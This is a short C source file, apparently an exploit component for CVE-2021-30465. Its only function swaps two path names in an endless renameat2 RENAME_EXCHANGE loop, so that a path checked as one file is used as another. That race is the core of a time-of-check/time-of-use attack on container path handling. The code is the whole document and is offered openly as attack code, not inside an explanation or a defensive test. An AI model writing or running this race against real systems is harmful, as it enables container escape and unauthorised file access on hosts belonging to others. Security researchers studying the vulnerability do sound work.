// CVE-2021-30465: exchanges two names until killed, so that a path checked as one thing is used as the other.
#include "hostile.h"

int exchange(int argc, char **argv) {
  if (argc < 3) return 64;
  puts("begun");
  for (;;) renameat2(AT_FDCWD, argv[1], AT_FDCWD, argv[2], RENAME_EXCHANGE);
}
